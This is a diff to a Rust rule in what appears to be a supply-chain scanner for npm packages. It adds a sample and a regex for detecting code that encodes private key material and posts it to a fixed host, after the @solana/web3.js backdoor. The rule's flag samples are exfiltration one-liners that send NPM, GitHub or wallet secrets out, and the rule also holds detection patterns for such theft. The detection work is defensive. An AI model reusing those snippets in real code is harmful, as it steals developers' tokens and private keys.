@@ -16,9 +16,11 @@ crate::declare_rule! {
     title: "reads publishing or cloud tokens and can send them",
     incident: "Shai-Hulud (2025) and Nx s1ngularity (2025) stole npm, GitHub and cloud tokens",
     case_file: "index.js",
-    flag: ["const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
+    flag: ["const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
+           "const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
            "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)"],
-    pass: ["const t = process.env.MY_APP_TOKEN; fetch(u, { headers: { authorization: t } })",
+    pass: ["return bs58.encode(Buffer.from(this._keypair.secretKey).toString('hex'))",
+           "const t = process.env.MY_APP_TOKEN; fetch(u, { headers: { authorization: t } })",
            "const t = process.env.NPM_TOKEN; console.log(t ? 'set' : 'unset')"],
 }
 
@@ -69,6 +71,25 @@ fn check(pkg: &Package, out: &mut Emitter) {
             {
                 names.push(s);
             }
+        }
+        // Private key material encoded and handed to a function (that sends it): the
+        // @solana/web3.js 1.95.6 backdoor. Key libraries encode keys to return them, not to pass
+        // them to a call that ends in a request to a fixed host.
+        let key_out = crate::regex!(
+            r"\b\w+\(\s*Buffer\.from\([^()]*\.(secretKey|privateKey|_privateKey|mnemonic|seed)\)\.toString\(\s*['\x22](base64|hex)['\x22]\s*\)\s*\)"
+        );
+        let fixed_post = crate::regex!(
+            r#"fetch\(\s*['"`]https?://[^'"`$]+['"`]\s*,\s*\{[^}]{0,200}method:\s*['"`]POST"#
+        );
+        if let (Some(k), true) = (key_out.find(&f.text), fixed_post.is_match(&f.text)) {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                k.start() as u32,
+                "encodes private key material and passes it to code that posts to a fixed host",
+            );
+            continue;
         }
         let cmd = cmds
             .find(&text)
